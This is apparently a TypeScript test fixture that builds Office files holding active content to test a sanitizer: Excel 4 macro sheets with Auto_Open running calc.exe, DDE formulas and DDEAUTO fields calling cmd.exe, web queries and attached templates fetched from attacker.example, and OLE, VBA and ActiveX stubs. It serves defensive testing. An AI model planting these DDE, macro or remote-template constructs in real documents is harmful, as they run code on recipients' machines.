// Office files carrying each class of active content, written part by part at test time (the
// shapes follow what Office itself writes), and an independent reader for the rebuilt files.
import { zipSync } from "fflate";

const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const MS = "http://schemas.microsoft.com/office/2006/relationships";
const CT = "http://schemas.openxmlformats.org/package/2006/content-types";
const SML = "application/vnd.openxmlformats-officedocument.spreadsheetml";
const WML = "application/vnd.openxmlformats-officedocument.wordprocessingml";
const PML = "application/vnd.openxmlformats-officedocument.presentationml";
const NS_X = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${R}"`;
const NS_W = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${R}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"`;
const NS_P = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${R}" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"`;

type Rel = [id: string, type: string, target: string, external?: boolean];

function rels(list: readonly Rel[]): string {
	const body = list
		.map(
			([id, type, target, external]) =>
				`<Relationship Id="${id}" Type="${type.includes("://") ? type : `${R}/${type}`}" Target="${target}"${external ? ' TargetMode="External"' : ""}/>`,
		)
		.join("");
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
}

function types(overrides: Record<string, string>, defaults: Record<string, string> = {}): string {
	const all = {
		rels: "application/vnd.openxmlformats-package.relationships+xml",
		xml: "application/xml",
		...defaults,
	};
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="${CT}">${Object.entries(
		all,
	)
		.map(([extension, type]) => `<Default Extension="${extension}" ContentType="${type}"/>`)
		.join("")}${Object.entries(overrides)
		.map(([part, type]) => `<Override PartName="/${part}" ContentType="${type}"/>`)
		.join("")}</Types>`;
}

function pack(files: Record<string, string | Buffer>): Buffer {
	const entries: Record<string, Uint8Array> = {};
	for (const [name, data] of Object.entries(files))
		entries[name] = typeof data === "string" ? Buffer.from(data, "utf8") : data;
	return Buffer.from(zipSync(entries));
}

const OLE_MAGIC = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
const ROOT = (main: string) => rels([["rId1", "officeDocument", main]]);

function sheetXml(cells: string, extra = ""): string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet ${NS_X}><sheetData>${cells}</sheetData>${extra}</worksheet>`;
}

const MACRO_SHEET = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>ALERT("macro")</f></c></row><row r="3"><c r="A3"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`;

/**
 * An xlsm with an Excel 4 macro sheet run by `_xlnm.Auto_Open`, a dialog sheet, and a macro sheet
 * disguised as an ordinary worksheet; ordinary sheets around them and names that must survive.
 */
export function xlsmWithMacroSheet(): Buffer {
	const workbook = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook ${NS_X}><bookViews><workbookView activeTab="4"/></bookViews><sheets><sheet name="予算" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="hidden" r:id="rId2"/><sheet name="Dialog1" sheetId="3" r:id="rId3"/><sheet name="Hidden" sheetId="4" state="veryHidden" r:id="rId4"/><sheet name="集計" sheetId="5" r:id="rId5"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="Runner" hidden="1">Macro1!$A$2</definedName><definedName name="Sneaky">'Hidden'!$A$1</definedName><definedName name="Auto_Close">予算!$A$1</definedName><definedName name="Budget">予算!$A$1:$B$2</definedName><definedName name="_xlnm.Print_Area" localSheetId="4">集計!$A$1:$C$3</definedName></definedNames></workbook>`;
	return pack({
		"[Content_Types].xml": types({
			"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
			"xl/worksheets/sheet1.xml": `${SML}.worksheet+xml`,
			"xl/worksheets/sheet2.xml": `${SML}.worksheet+xml`,
			"xl/worksheets/sheet3.xml": `${SML}.worksheet+xml`,
			"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml",
			"xl/dialogsheets/sheet1.xml": `${SML}.dialogsheet+xml`,
		}),
		"_rels/.rels": ROOT("xl/workbook.xml"),
		"xl/workbook.xml": workbook,
		"xl/_rels/workbook.xml.rels": rels([
			["rId1", "worksheet", "worksheets/sheet1.xml"],
			["rId2", `${MS}/xlMacrosheet`, "macrosheets/sheet1.xml"],
			["rId3", "dialogsheet", "dialogsheets/sheet1.xml"],
			["rId4", "worksheet", "worksheets/sheet3.xml"],
			["rId5", "worksheet", "worksheets/sheet2.xml"],
		]),
		"xl/worksheets/sheet1.xml": sheetXml('<row r="1"><c r="A1"><v>100</v></c></row>'),
		"xl/worksheets/sheet2.xml": sheetXml(
			'<row r="1"><c r="A1" t="inlineStr"><is><t>合計</t></is></c></row>',
		),
		"xl/worksheets/sheet3.xml": MACRO_SHEET,
		"xl/macrosheets/sheet1.xml": MACRO_SHEET,
		"xl/dialogsheets/sheet1.xml": `<dialogsheet ${NS_X}><sheetPr/></dialogsheet>`,
	});
}

/** An xlsx whose cell runs `cmd` through DDE, also as a shared formula and a conditional format. */
export function xlsxWithDdeFormula(): Buffer {
	const cells = [
		`<row r="1"><c r="A1"><f>cmd|' /C calc'!A0</f><v>0</v></c><c r="B1"><f>SUM(1,2)</f><v>3</v></c><c r="C1" t="str"><f>"a|b"&amp;"c"</f><v>a|bc</v></c></row>`,
		`<row r="2"><c r="A2"><f t="shared" ref="A2:A3" si="0">msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''</f><v>0</v></c></row>`,
		`<row r="3"><c r="A3"><f t="shared" si="0"/><v>0</v></c></row>`,
	].join("");
	const format = `<conditionalFormatting sqref="B1"><cfRule type="expression" priority="1"><formula>cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>`;
	return pack({
		"[Content_Types].xml": types({
			"xl/workbook.xml": `${SML}.sheet.main+xml`,
			"xl/worksheets/sheet1.xml": `${SML}.worksheet+xml`,
		}),
		"_rels/.rels": ROOT("xl/workbook.xml"),
		"xl/workbook.xml": `<workbook ${NS_X}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": rels([["rId1", "worksheet", "worksheets/sheet1.xml"]]),
		"xl/worksheets/sheet1.xml": sheetXml(cells, format),
	});
}

/** An xlsx with a web query (connection and query table) and a link to an outside workbook. */
export function xlsxWithConnections(): Buffer {
	return pack({
		"[Content_Types].xml": types({
			"xl/workbook.xml": `${SML}.sheet.main+xml`,
			"xl/worksheets/sheet1.xml": `${SML}.worksheet+xml`,
			"xl/connections.xml": `${SML}.connections+xml`,
			"xl/queryTables/queryTable1.xml": `${SML}.queryTable+xml`,
			"xl/externalLinks/externalLink1.xml": `${SML}.externalLink+xml`,
		}),
		"_rels/.rels": ROOT("xl/workbook.xml"),
		"xl/workbook.xml": `<workbook ${NS_X}><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId3"/></externalReferences><definedNames><definedName name="Rates">[1]Sheet1!$A$1</definedName><definedName name="Local">Data!$A$1</definedName></definedNames></workbook>`,
		"xl/_rels/workbook.xml.rels": rels([
			["rId1", "worksheet", "worksheets/sheet1.xml"],
			["rId2", "connections", "connections.xml"],
			["rId3", "externalLink", "externalLinks/externalLink1.xml"],
		]),
		"xl/worksheets/sheet1.xml": sheetXml(
			'<row r="1"><c r="A1"><f>[1]Sheet1!$A$1</f><v>1.5</v></c></row>',
		),
		"xl/worksheets/_rels/sheet1.xml.rels": rels([
			["rId1", "queryTable", "../queryTables/queryTable1.xml"],
		]),
		"xl/queryTables/queryTable1.xml": `<queryTable ${NS_X} name="rates" connectionId="1" autoFormatId="16"/>`,
		"xl/connections.xml": `<connections ${NS_X}><connection id="1" name="rates" type="4" refreshOnLoad="1"><webPr url="http://attacker.example/rates.iqy"/></connection></connections>`,
		"xl/externalLinks/externalLink1.xml": `<externalLink ${NS_X}><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
		"xl/externalLinks/_rels/externalLink1.xml.rels": rels([
			["rId1", "externalLinkPath", "http://attacker.example/book.xlsx", true],
		]),
	});
}

function wordPackage(
	body: string,
	extra: Record<string, string | Buffer>,
	mainType = `${WML}.document.main+xml`,
	documentRels: Rel[] = [],
	overrides: Record<string, string> = {},
	defaults: Record<string, string> = {},
): Buffer {
	return pack({
		"[Content_Types].xml": types(
			{
				"word/document.xml": mainType,
				"word/settings.xml": `${WML}.settings+xml`,
				...overrides,
			},
			defaults,
		),
		"_rels/.rels": ROOT("word/document.xml"),
		"word/document.xml": `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document ${NS_W}><w:body>${body}<w:p><w:r><w:t>本文です。</w:t></w:r></w:p></w:body></w:document>`,
		"word/_rels/document.xml.rels": rels([["rIdS", "settings", "settings.xml"], ...documentRels]),
		"word/settings.xml": `<w:settings ${NS_W}/>`,
		...extra,
	});
}

/** A docx with DDEAUTO split over runs, a DDE `w:fldSimple` and an ordinary PAGE field. */
export function docxWithDde(): Buffer {
	const run = (inner: string) => `<w:r>${inner}</w:r>`;
	const body = [
		`<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${run('<w:instrText xml:space="preserve"> DD</w:instrText>')}${run('<w:instrText xml:space="preserve">EAU</w:instrText>')}${run('<w:instrText xml:space="preserve">TO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" </w:instrText>')}${run('<w:fldChar w:fldCharType="separate"/>')}${run("<w:t>請求書</w:t>")}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`,
		'<w:p><w:fldSimple w:instr=" DDE &quot;cmd&quot; &quot;/c notepad&quot; "><w:r><w:t>簡易</w:t></w:r></w:fldSimple></w:p>',
		`<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${run("<w:instrText> PAGE </w:instrText>")}${run('<w:fldChar w:fldCharType="separate"/>')}${run("<w:t>1</w:t>")}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`,
	].join("");
	return wordPackage(body, {});
}

const PNG_1X1 = Buffer.from(
	"89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5f0d2b30000000049454e44ae426082",
	"hex",
);

/** A docm-turned-template trap: an embedded OLE package, an attached template from outside, altChunk. */
export function docxWithOleAndTemplate(): Buffer {
	const body = [
		'<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:72pt;height:72pt"><v:imagedata r:id="rIdImg"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>',
		'<w:altChunk r:id="rIdChunk"/>',
	].join("");
	return wordPackage(
		body,
		{
			"word/settings.xml": `<w:settings ${NS_W}><w:attachedTemplate r:id="rIdT"/></w:settings>`,
			"word/_rels/settings.xml.rels": rels([
				["rIdT", "attachedTemplate", "http://attacker.example/normal.dotm", true],
			]),
			"word/embeddings/oleObject1.bin": Buffer.concat([
				OLE_MAGIC,
				Buffer.from("Package invoice.exe MZ"),
			]),
			"word/media/image1.png": PNG_1X1,
			"word/afchunk.mht":
				"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
		},
		"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
		[
			["rIdOle", "oleObject", "embeddings/oleObject1.bin"],
			["rIdImg", "image", "media/image1.png"],
			["rIdChunk", "aFChunk", "afchunk.mht"],
		],
		{},
		{
			bin: "application/vnd.openxmlformats-officedocument.oleObject",
			png: "image/png",
			mht: "message/rfc822",
		},
	);
}

/** A pptm with a VBA project, an ActiveX control, an OLE object and a macro-running click. */
export function pptmWithVbaAndActiveX(): Buffer {
	const slide = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<p:sld ${NS_P}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="Title"><a:hlinkClick r:id="" action="ppaction://macro?name=AutoRun"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>議題</a:t></a:r></a:p></p:txBody></p:sp><mc:AlternateContent><mc:Choice Requires="v"><p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="3" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj spid="_x0000_s1" name="Packager Shell Object" r:id="rIdOle" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame></mc:Choice><mc:Fallback><p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="3" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj name="Packager Shell Object" r:id="rIdOle" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame></mc:Fallback></mc:AlternateContent></p:spTree><p:controls><mc:AlternateContent><mc:Choice Requires="v"><p:control spid="_x0000_s2" name="CommandButton1" r:id="rIdX"/></mc:Choice></mc:AlternateContent></p:controls></p:cSld></p:sld>`;
	return pack({
		"[Content_Types].xml": types(
			{
				"ppt/presentation.xml": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
				"ppt/slides/slide1.xml": `${PML}.slide+xml`,
				"ppt/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
			},
			{
				bin: "application/vnd.ms-office.vbaProject",
				ole: "application/vnd.openxmlformats-officedocument.oleObject",
			},
		),
		"_rels/.rels": ROOT("ppt/presentation.xml"),
		"ppt/presentation.xml": `<p:presentation ${NS_P}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>`,
		"ppt/_rels/presentation.xml.rels": rels([
			["rId1", "slide", "slides/slide1.xml"],
			["rId9", `${MS}/vbaProject`, "vbaProject.bin"],
		]),
		"ppt/vbaProject.bin": Buffer.concat([
			OLE_MAGIC,
			Buffer.from("Attribute VB_Name AutoRun Shell"),
		]),
		"ppt/slides/slide1.xml": slide,
		"ppt/slides/_rels/slide1.xml.rels": rels([
			["rIdX", "control", "../activeX/activeX1.xml"],
			["rIdOle", "oleObject", "../embeddings/oleObject1.ole"],
		]),
		"ppt/activeX/activeX1.xml":
			'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>',
		"ppt/activeX/_rels/activeX1.xml.rels": rels([
			["rId1", `${MS}/activeXControlBinary`, "activeX1.bin"],
		]),
		"ppt/activeX/activeX1.bin": Buffer.concat([OLE_MAGIC, Buffer.from("Forms.CommandButton.1")]),
		"ppt/embeddings/oleObject1.ole": Buffer.concat([OLE_MAGIC, Buffer.from("Package evil.hta")]),
	});
}
